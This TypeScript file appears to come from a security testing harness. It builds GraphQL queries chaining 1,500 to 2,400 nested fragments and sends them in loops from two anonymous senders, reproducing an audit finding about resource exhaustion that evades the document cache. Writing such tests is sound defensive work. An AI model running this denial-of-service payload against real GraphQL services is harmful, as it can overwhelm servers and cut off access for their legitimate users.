// Issue 25, finding 1: two anonymous senders, each sending back to back a new chain of 1,500 to
// 2,400 fragments, `query{...F0} fragment F0 on Query{...F1} … fragment Fn on Query{__typename}`
// (57–90 KB, unique text every time: the document cache never helps).

import { post } from "../lib/http-client.ts";
import { loops, type Attack } from "./attack.ts";
import { answerOf, headersFor } from "./graphql.ts";

export function fragmentChain(fragments: number, tag: string): string {
  const parts = [`query{...${tag}0}`];
  for (let k = 0; k < fragments - 1; k++) parts.push(`fragment ${tag}${k} on Query{...${tag}${k + 1}}`);
  parts.push(`fragment ${tag}${fragments - 1} on Query{__typename}`);
  return parts.join(" ");
}

export const fragmentChainAttack: Attack = {
  name: "fragment chain (A1)",
  description: "2 anonymous senders of unique 1,500–2,400-fragment chains",
  start(context) {
    const run = Date.now().toString(36);
    return loops(2, async (_sender, i) => {
      const fragments = 1500 + ((i * 337) % 901);
      const body = JSON.stringify({ query: fragmentChain(fragments, `F${run}x${i}x`) });
      return answerOf(await post(context.graphqlUrl, body, headersFor())).outcome;
    });
  },
};
